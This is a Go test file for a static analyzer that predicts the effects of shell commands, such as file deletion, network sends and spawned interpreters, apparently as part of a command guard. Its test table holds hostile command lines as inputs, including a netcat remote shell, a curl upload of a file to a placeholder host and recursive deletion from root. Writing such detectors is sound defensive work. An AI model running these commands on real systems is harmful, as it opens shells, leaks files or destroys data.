package program

import (
	"path"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/e2bguard/e2bguard/guard/static/effect"
)

// start runs one command line, split at blanks, and sums up what it does
// besides being started.
func start(line string, stdin effect.Value) (out effect.Value, effects []string) {
	words := strings.Split(line, " ")
	args := make([]effect.Value, len(words)-1)

	for i, w := range words[1:] {
		args[i] = effect.Const(w)
	}

	m := &Machine{Result: &effect.Result{}, Budget: effect.NewBudget(effect.DefaultSteps)}
	out = m.Run(Call{Name: effect.Const(words[0]), Args: args, Stdin: stdin, Piped: stdin.Text != "" || stdin.Taint != 0})

	for _, e := range m.Result.Effects {
		s := e.Kind.String() + " " + e.Target.Text
		if e.Kind == effect.Exec {
			for _, a := range e.Args {
				s += " " + a.Text
			}
		}

		if e.Flags.Has(effect.FlagRecursive) {
			s += " -r"
		}

		if e.Flags.Has(effect.FlagNetIO) {
			s += " !"
		}

		effects = append(effects, strings.ReplaceAll(s, effect.HoleText, "?"))
	}

	for _, e := range m.Result.Embedded {
		effects = append(effects, e.Lang+"<"+e.Text.Text+">")
	}

	return out, effects
}

func TestProgramsDoWhatTheyDo(t *testing.T) {
	t.Parallel()

	for line, want := range map[string][]string{
		"rm -rf a b":                     {"exec rm -rf a b", "delete a -r", "delete b -r"},
		"/bin/rm a":                      {"exec rm a", "delete a"},
		"sudo -u root env A=1 rm a":      {"setenv A", "exec rm a", "delete a"},
		"timeout -s KILL 5 nice -n 3 ls": {"exec ls"},
		"busybox rm a":                   {"exec rm a", "delete a"},
		"cat a -n b":                     {"exec cat a -n b", "read a", "read b"},
		"cp a b":                         {"exec cp a b", "read a", "move b"},
		"mv a d/":                        {"exec mv a d/", "read a", "move d/a"},
		"ln -s a b":                      {"exec ln -s a b", "link b"},
		"chmod -R 755 a":                 {"exec chmod -R 755 a", "mode a -r"},
		"tee -a f":                       {"exec tee -a f", "write f"},
		"dd if=a of=b":                   {"exec dd if=a of=b", "read a", "write b"},
		"curl -o f http://h/":            {"exec curl -o f http://h/", "connect http://h/", "receive http://h/", "write f"},
		"curl -d @f h/":                  {"exec curl -d @f h/", "read f", "connect http://h/", "send http://h/", "receive http://h/"},
		"wget http://h/a.sh":             {"exec wget http://h/a.sh", "connect http://h/a.sh", "receive http://h/a.sh", "write a.sh"},
		"nc -e /bin/sh h 1":              {"exec nc -e /bin/sh h 1", "connect h", "exec /bin/sh !"},
		"nc -l -p 80":                    {"exec nc -l -p 80", "listen "},
		"scp a u@h:b":                    {"exec scp a u@h:b", "connect u@h", "read a", "send u@h"},
		"rsync --delete a/ b/":           {"exec rsync --delete a/ b/", "delete b/ -r", "read a/", "move b/a"},
		"tar czf o.tgz a b":              {"exec tar czf o.tgz a b", "read a", "read b", "write o.tgz"},
		"tar xf a.tar":                   {"exec tar xf a.tar", "read a.tar"},
		"kill -9 12":                     {"exec kill -9 12", "kill 12"},
		"pip install a b":                {"exec pip install a b", "install a", "install b"},
		"pip list":                       {"exec pip list"},
		"npm run x":                      {"exec npm run x"},
		"git clone http://h/a":           {"exec git clone http://h/a", "install http://h/a"},
		"find / -delete":                 {"exec find / -delete", "delete / -r"},
		"find a -name b -exec rm {} ;":   {"exec find a -name b -exec rm {} ;", "exec rm a/?/b", "delete a/?/b"},
		"xargs rm a":                     {"exec xargs rm a", "exec rm a ?", "delete a", "delete ?"},
		"crontab f":                      {"exec crontab f", "read f", "schedule cron"},
		"crontab -l":                     {"exec crontab -l"},
		"whoami":                         {"exec whoami", "info user"},
		"env":                            {"exec env", "env "},
		"python3 -c x":                   {"exec python3 -c x", "python<x>"},
		"node -e x":                      {"exec node -e x", "javascript<x>"},
		"bash -c ls":                     {"exec bash -c ls", "bash<ls>"},
		"perl -ne x f":                   {"exec perl -ne x f", "perl<x>"},
		"docker run -v a:b i ls":         {"exec docker run -v a:b i ls", "exec ls"},
		"ssh u@h ls":                     {"exec ssh u@h ls", "connect u@h", "bash<ls>"},
		"unknown a b":                    {"exec unknown a b"},
		"mysql -e DROP":                  {"exec mysql -e DROP", "sql<DROP>"},
	} {
		stdin := effect.Value{}
		if strings.HasPrefix(line, "xargs") || strings.HasPrefix(line, "tee") {
			stdin = effect.Unknown(effect.TaintInput)
		}

		_, got := start(line, stdin)
		assert.Equal(t, want, got, line)
	}
}

func TestOutputIsFolded(t *testing.T) {
	t.Parallel()

	for _, c := range []struct{ line, stdin, want string }{
		{"echo a b", "", "a b\n"},
		{"echo -n a", "", "a"},
		{"echo -e a\\tb", "", "a\tb\n"},
		{"printf %s-%d\\n a 3", "", "a-3\n"},
		{"printf %s, a b", "", "a,b,"},
		{"base64 -d", "aGk=", "hi"},
		{"base64", "hi", "aGk=\n"},
		{"base32 -d", "NBUQ====", "hi"},
		{"xxd -r -p", "6869", "hi"},
		{"rev", "abc\nd", "cba\nd"},
		{"tr a-c x-z", "abcd", "xyzd"},
		{"tr -d b", "abc", "ac"},
		{"cut -d, -f2", "a,b,c", "b\n"},
		{"cut -c2-3", "abcd", "bc\n"},
		{"sed s/a/b/", "aa", "ba"},
		{"seq 3", "", "1\n2\n3\n"},
		{"basename /a/b", "", "b\n"},
		{"dirname /a/b", "", "/a\n"},
		{"which ls", "", "ls\n"},
		{"openssl base64 -d", "aGk=", "hi"},
	} {
		stdin := effect.Value{}
		if c.stdin != "" {
			stdin = effect.Const(c.stdin)
		}

		out, _ := start(c.line, stdin)
		assert.Equal(t, c.want, out.Text, c.line)
	}
}

func TestWrappersWithinWrappersEnd(t *testing.T) {
	t.Parallel()

	_, got := start(strings.Repeat("env ", 1000)+"ls", effect.Value{})
	assert.LessOrEqual(t, len(got), 1)
}

func TestGetopt(t *testing.T) {
	t.Parallel()

	var args []effect.Value
	for _, a := range strings.Fields("-abc v -o1 --long=x --val y p -- -q") {
		args = append(args, effect.Const(a))
	}

	o := getopt(args, "co", " val ")
	assert.True(t, o.has("a"))
	assert.True(t, o.has("b"))

	for name, want := range map[string]string{"c": "v", "o": "1", "long": "x", "val": "y"} {
		v, ok := o.val(name)
		assert.True(t, ok, name)
		assert.Equal(t, want, v.Text, name)
	}

	assert.Len(t, o.pos, 2)
	assert.False(t, o.has("q"))
}

// TestTableIsSane: no model is nil, and names are bare.
func TestTableIsSane(t *testing.T) {
	t.Parallel()

	for name, m := range models {
		assert.NotNil(t, m, name)
		assert.Equal(t, path.Base(name), name)
	}

	for name, w := range wrappers {
		assert.NotNil(t, w, name)
	}

	for _, n := range globTargets {
		assert.True(t, Known(n), n)
	}
}
